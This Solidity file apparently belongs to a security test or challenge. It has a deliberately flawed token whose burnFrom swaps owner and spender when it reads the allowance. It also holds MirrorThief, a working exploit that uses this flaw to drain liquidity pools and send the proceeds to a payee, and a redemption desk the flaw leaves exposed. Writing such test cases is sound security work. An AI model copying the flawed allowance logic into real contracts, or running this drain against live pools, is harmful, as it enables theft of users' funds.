// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Pool} from "../props/Markets.sol";
import {Token} from "../props/Tokens.sol";

/// A dollar that others may burn for its holder. Who allowed whom is looked up the wrong way round, and what is left of it
/// is written down the right way round.
contract MirrorDollar {
    string public constant name = "Mirror Dollar";
    string public constant symbol = "MUSD";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public immutable issuer = msg.sender;
    mapping(address => mapping(address => uint256)) private allowances;
    mapping(address => uint256) private holdings;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function balanceOf(address who) external view returns (uint256) {
        return holdings[who];
    }

    function allowance(address owner, address spender) external view returns (uint256) {
        return allowances[owner][spender];
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == issuer, "not the issuer");
        totalSupply += value;
        holdings[to] += value;
        emit Transfer(address(0), to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allow(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allow(from, msg.sender, allowances[from][msg.sender] - value);
        move(from, to, value);
        return true;
    }

    function burnFrom(address account, uint256 amount) external {
        uint256 current = allowances[msg.sender][account];
        allow(account, msg.sender, current - amount);
        holdings[account] -= amount;
        totalSupply -= amount;
        emit Transfer(account, address(0), amount);
    }

    function allow(address owner, address spender, uint256 value) private {
        allowances[owner][spender] = value;
        emit Approval(owner, spender, value);
    }

    function move(address from, address to, uint256 value) private {
        holdings[from] -= value;
        holdings[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Allows a pool everything, and is allowed everything by it.
contract MirrorThief {
    function run(MirrorDollar dollar, Pool[] calldata pools, Token[] calldata others, address payee) external {
        for (uint256 i = 0; i < pools.length; i++) {
            Pool pool = pools[i];
            dollar.approve(address(pool), type(uint256).max);
            dollar.burnFrom(address(pool), 0);
            dollar.transferFrom(address(pool), address(this), dollar.balanceOf(address(pool)) - 1);
            pool.sync();
            pool.sell(Token(address(dollar)), dollar.balanceOf(address(this)), address(this));
            others[i].transfer(payee, others[i].balanceOf(address(this)));
        }
    }
}

/// Redeems dollars of those who come to it: burns theirs, and pays from its reserve. It sells a part at the pool for those
/// who want coins.
contract MirrorDesk {
    MirrorDollar public immutable dollar;
    Token public immutable reserve;

    constructor(MirrorDollar dollar_, Token reserve_) {
        (dollar, reserve) = (dollar_, reserve_);
    }

    function redeem(uint256 amount, Pool pool, uint256 sold) external {
        dollar.approve(msg.sender, amount + sold);
        dollar.burnFrom(msg.sender, amount);
        reserve.transfer(msg.sender, amount);
        // What the burning left of the allowance is one for the rest.
        if (sold == 0) return;
        dollar.transferFrom(msg.sender, address(this), sold);
        dollar.approve(address(pool), sold);
        pool.sell(Token(address(dollar)), sold, msg.sender);
        pool.sync();
    }
}
